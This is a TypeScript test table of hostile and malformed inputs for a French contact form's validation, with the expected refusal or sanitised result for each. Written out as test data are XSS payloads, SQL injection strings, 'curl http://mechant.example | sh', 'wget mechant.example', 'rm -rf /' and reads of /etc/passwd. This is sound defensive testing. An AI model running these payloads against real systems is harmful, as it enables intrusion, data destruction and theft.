import { contactMessages } from './demo-request';

/**
 * Hostile and malformed values for the demonstration request, each with the outcome the spec gives.
 * The shared rules test and the API test both run this table (not exported from index.ts: test data).
 * `stored` is what is kept after sanitising when the value is accepted.
 */
export type HostileInputCase = {
  name: string;
  field: 'firstName' | 'lastName' | 'mail' | 'phone' | 'companyName' | 'size' | 'message';
  value: unknown;
} & ({ outcome: 'accepted'; stored: string } | { outcome: 'refused'; message: string });

const suspicious = contactMessages.suspicious;
const invalid = contactMessages.invalidFormat;
const required = contactMessages.required;
const tooLong = contactMessages.maxLength;

const refused = (name: string, field: HostileInputCase['field'], value: unknown, message: string): HostileInputCase => ({ name, field, value, outcome: 'refused', message });
const accepted = (name: string, field: HostileInputCase['field'], value: unknown, stored: string): HostileInputCase => ({ name, field, value, outcome: 'accepted', stored });
/** Accepted and stored exactly as sent. */
const kept = (name: string, field: HostileInputCase['field'], value: string): HostileInputCase => accepted(name, field, value, value);

export const hostileContactInputs: HostileInputCase[] = [
  // Markup and script
  refused('script tag in a name', 'firstName', '<script>alert(1)</script>', suspicious),
  refused('iframe in a name', 'lastName', '<iframe src="https://mechant.example"></iframe>', suspicious),
  refused('img with onerror in the message', 'message', 'Voir <img src=x onerror=alert(1)>', suspicious),
  refused('svg onload in the company', 'companyName', '<svg onload=alert(1)>', suspicious),
  refused('javascript: URL in the message', 'message', 'javascript:alert(document.cookie)', suspicious),
  refused('JavaScript: with odd case and spaces', 'message', 'Cliquez ici JaVaScRiPt :void(0)', suspicious),
  refused('inline handler in the company', 'companyName', 'ACME" onmouseover="voler()', suspicious),
  refused('script hidden as HTML entities', 'firstName', '&lt;script&gt;alert(1)&lt;/script&gt;', suspicious),
  refused('script hidden as full-width characters', 'lastName', '＜script＞alert(1)＜/script＞', suspicious),
  refused('script hidden as percent escapes', 'message', '%3Cscript%3Ealert(1)%3C/script%3E', suspicious),
  refused('data: URL carrying HTML', 'message', 'data:text/html;base64,PHNjcmlwdD4=', suspicious),
  refused('template injection', 'message', '{{constructor.constructor("alert(1)")()}}', suspicious),
  // Cookie and storage access
  refused('document.cookie', 'message', 'Envoyez document.cookie à mon adresse', suspicious),
  refused('localStorage access', 'companyName', 'localStorage.getItem(authToken)', suspicious),
  refused('sessionStorage access', 'message', 'sessionStorage.clear()', suspicious),
  refused('eval call', 'message', 'eval(atob("YWxlcnQoMSk="))', suspicious),
  // SQL
  refused('DROP TABLE after a quote', 'message', "'; DROP TABLE contact_requests; --", suspicious),
  refused("OR '1'='1 in the company", 'companyName', "Union & Co' OR '1'='1", suspicious),
  refused('UNION SELECT', 'message', '1 UNION SELECT password FROM users', suspicious),
  refused('SELECT * FROM', 'message', 'SELECT * FROM users WHERE 1=1', suspicious),
  refused('INSERT INTO', 'message', 'INSERT INTO admins VALUES (1)', suspicious),
  refused('DELETE FROM', 'lastName', 'DELETE FROM users', suspicious),
  refused('OR 1=1 in the message', 'message', 'admin or 1=1', suspicious),
  refused('time-based injection', 'message', "1' AND pg_sleep(10)", suspicious),
  // Shell
  refused('rm -rf', 'message', 'rm -rf / --no-preserve-root', suspicious),
  refused('chained curl into sh', 'companyName', 'Acme; curl http://mechant.example | sh', suspicious),
  refused('command substitution', 'message', 'Bonjour $(whoami)', suspicious),
  refused('backticks reading /etc/passwd', 'message', '`cat /etc/passwd`', suspicious),
  refused('path traversal', 'message', 'Voir ../../../etc/passwd', suspicious),
  refused('&& chained command', 'message', 'Test && wget mechant.example', suspicious),
  // Control characters, whitespace and harmless markup: sanitised, then stored
  accepted('NUL byte inside a name', 'firstName', 'Zo\u0000é', 'Zoé'),
  accepted('bell and bold tags in the message', 'message', 'Bonjour\u0007 <b>équipe</b>', 'Bonjour équipe'),
  accepted('zero-width and direction marks', 'lastName', 'Du\u200Bpont\u202E', 'Dupont'),
  accepted('runs of spaces and tabs', 'firstName', '  Marie \t  Claire  ', 'Marie Claire'),
  accepted('harmless tags around a company', 'companyName', '<b>Union & Co</b>', 'Union & Co'),
  accepted('message paragraphs kept, blank lines collapsed', 'message', 'Bonjour,\r\n\r\n\r\n\r\nMerci  beaucoup.', 'Bonjour,\n\nMerci beaucoup.'),
  // Over-long fields
  refused('first name of 51 characters', 'firstName', 'a'.repeat(51), tooLong(50)),
  refused('last name of 51 characters', 'lastName', 'b'.repeat(51), tooLong(50)),
  refused('email of 101 characters', 'mail', `${'a'.repeat(96)}@b.fr`, tooLong(100)),
  refused('phone of 22 characters', 'phone', '0612345678901234567890', tooLong(20)),
  refused('company of 101 characters', 'companyName', 'c'.repeat(101), tooLong(100)),
  refused('message of 2001 characters', 'message', 'm'.repeat(2001), tooLong(2000)),
  refused('message of one megabyte-ish', 'message', 'x'.repeat(200_000), tooLong(2000)),
  kept('message of exactly 2000 characters', 'message', 'm'.repeat(2000)),
  // Wrong types and missing values
  refused('number as a name', 'firstName', 42, invalid),
  refused('array as an email', 'mail', ['a@b.fr'], invalid),
  refused('object as a message', 'message', { text: 'Bonjour' }, invalid),
  refused('null first name', 'firstName', null, required),
  refused('missing last name', 'lastName', undefined, required),
  refused('blank company', 'companyName', '   ', required),
  refused('unknown company size', 'size', 'énorme', invalid),
  refused('company size with the word employés', 'size', '1-10 employés', invalid),
  // Names: accents pass, digits and emoji do not (names are letters, spaces, hyphen, apostrophe)
  kept('accented compound name with apostrophe', 'firstName', "Zoé-Anaïs O'Connor"),
  kept('cedilla and diaeresis', 'lastName', 'Lefèvre-Çelik'),
  kept('typographic apostrophe', 'lastName', 'D’Artagnan'),
  refused('emoji in a name', 'firstName', 'Zoé 😀', invalid),
  refused('digits in a name', 'lastName', 'Dupont2', invalid),
  // Emoji in the message: a clean 'Format invalide', never a crash
  refused('emoji in the message', 'message', 'Merci 🙏 pour votre aide', invalid),
  // Ordinary French text must pass
  kept('sélectionner in the message', 'message', 'Je voudrais sélectionner une date pour la démonstration, merci !'),
  kept('company with an ampersand', 'companyName', 'Union & Co'),
  kept('company with brackets, dots and commas', 'companyName', 'Société Générale (France), S.A.'),
  kept('English words that only look like SQL', 'message', 'Please select one from the list; we update the team and drop by on Monday.'),
  // Phones: French formats only
  kept('phone with spaces', 'phone', '06 12 34 56 78'),
  kept('phone with dots', 'phone', '06.12.34.56.78'),
  kept('phone in +33 form', 'phone', '+33 6 12 34 56 78'),
  kept('phone without separators', 'phone', '0140000002'),
  kept('no phone at all', 'phone', ''),
  refused('phone starting 00', 'phone', '0012345678', invalid),
  refused('British phone', 'phone', '+44 20 7946 0958', invalid),
  refused('phone one pair short', 'phone', '06 12 34 56', invalid),
  refused('phone with letters', 'phone', '06 12 AB 56 78', invalid),
  // Email shape
  refused('email without at sign', 'mail', 'pas-un-email', invalid),
  refused('email with a space', 'mail', 'jean dupont@exemple.fr', invalid),
];
